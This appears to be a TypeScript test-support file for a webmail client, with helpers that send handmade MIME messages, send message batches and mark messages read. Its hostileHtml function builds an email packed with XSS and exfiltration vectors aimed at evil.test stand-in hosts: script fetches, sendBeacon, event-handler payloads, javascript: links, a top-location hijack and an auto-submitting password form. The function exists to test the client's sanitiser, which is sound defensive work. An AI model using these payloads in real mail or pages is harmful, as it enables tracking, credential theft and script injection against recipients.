/** Letters for the tests of the page: plain ones by the hundred, and MIME as its sender wrote it. */
import type { Draft } from "../../src/client/sending/draft.ts";
import { randomBytes, utf8 } from "../../src/model/bytes.ts";
import { entryId } from "../../src/model/ids.ts";
import type { PersonHere } from "../support/account_here.ts";

/**
 * Sends a message whose MIME was made by hand: its fields from Content-Type on, and its body. Returns its id in the
 * recipient's mailbox.
 */
export async function sendMade(
  from: PersonHere,
  to: PersonHere,
  subject: string,
  made: {
    readonly fields: string;
    readonly body: string;
    readonly files?: readonly string[];
    readonly burn?: boolean;
  },
): Promise<number> {
  const { fields, body, files = [], burn } = made;
  const header =
    `From: ${from.name}@mail.test\r\nTo: ${to.name}@mail.test\r\nMIME-Version: 1.0\r\n${fields}\r\n`;
  const submitted: NonNullable<Draft["submitted"]> = {
    messageId: `${randomBytes(16).toHex()}@mail.test`,
    date: Date.now(),
    inReplyTo: null,
    references: [],
    attachments: files.map((name) => ({ name, type: "text/plain", size: 1 })),
    header: utf8(header),
  };
  const draft = { to: [to.name], cc: [], bcc: [], subject, body: utf8(body), attachments: [] };
  await from.with((mailbox) => mailbox.send({ ...draft, submitted, burn }));
  return (await to.list())[0]!.id;
}

/** Sends many, on one session. */
export async function sendMany(
  from: PersonHere,
  to: string,
  subjects: readonly string[],
): Promise<void> {
  await from.with(async (mailbox) => {
    for (const subject of subjects) {
      const body = utf8(`The text of ${subject}.\n`);
      await mailbox.send({
        to: [to],
        cc: [],
        bcc: [],
        subject,
        body,
        attachments: [],
      });
    }
  });
}

/** Reads a message to its end and marks it, as who reads it does. */
export async function markRead(reader: PersonHere, id: number): Promise<void> {
  await reader.with(async (mailbox) => {
    const message = await mailbox.open(entryId(id));
    await Array.fromAsync(message.source());
    await mailbox.markRead([message]);
  });
}

/** HTML that only sanitising and the frame keep from reaching out; `trap` is `host:port` of who listens. */
export function hostileHtml(trap: string): string {
  const at = (name: string) => `http://${name}.evil.test:${trap.split(":")[1]}/${name}`;
  return `<!doctype html><html><head>
    <base href="${at("base")}/"><meta http-equiv="refresh" content="0;url=${at("refresh")}">
    <link rel="stylesheet" href="${at("sheet")}"><link rel="prefetch" href="${at("prefetch")}">
    <link rel="dns-prefetch" href="//dns.evil.test"><link rel="preconnect" href="${
    at(
      "preconnect",
    )
  }">
    <link rel="icon" href="${at("icon")}"><script src="${at("script")}"></script>
    <style>@import url(${at("import")});@font-face{font-family:x;src:url(${at("font")})}
      body{background:url(${at("background")});font-family:x}</style></head>
    <body background="${at("attribute")}" onload="fetch('${at("load")}')">
    <script>fetch("${at("fetch")}"); top.location = "${at("top")}"; document.title = "owned";
      navigator.sendBeacon("${at("beacon")}")</script>
    <img src="${at("image")}" onerror="fetch('${at("error")}')"><img src="relative.png">
    <img srcset="${at("srcset")} 2x" src="data:image/svg+xml,<svg onload=alert(1)>">
    <picture><source srcset="${at("source")}"><img src=""></picture>
    <svg><image href="${at("svg")}"/><script>fetch("${at("svgscript")}")</script>
      <use href="${at("use")}#x"/><foreignObject><img src="${at("foreign")}"></foreignObject></svg>
    <math><mtext><style><img src="${at("math")}"></style></mtext></math>
    <iframe src="${at("frame")}"></iframe><iframe srcdoc="<img src='${at("srcdoc")}'>"></iframe>
    <object data="${at("object")}"></object><embed src="${at("embed")}">
    <video poster="${at("poster")}" src="${at("video")}" autoplay></video>
    <audio src="${at("audio")}" autoplay></audio>
    <form action="${
    at(
      "form",
    )
  }" id="f"><input name="password" autofocus onfocus="f.submit()"></form>
    <p style="background:url('${at("style")}');background-image:image-set('${at("set")}' 1x);
      list-style:url(${at("list")});color:red;position:fixed">A friendly word</p>
    <a href="javascript:fetch('${at("javascript")}')">script link</a>
    <a href="${at("link")}" ping="${at("ping")}">https://bank.example</a>
    <noscript><p title="</noscript><img src='${at("noscript")}'>"></noscript>
    <table background="${at("table")}"><tr><td>cell</td></tr></table>
    <xmp><img src="${at("xmp")}"></xmp><plaintext><img src="${at("plaintext")}">`;
}
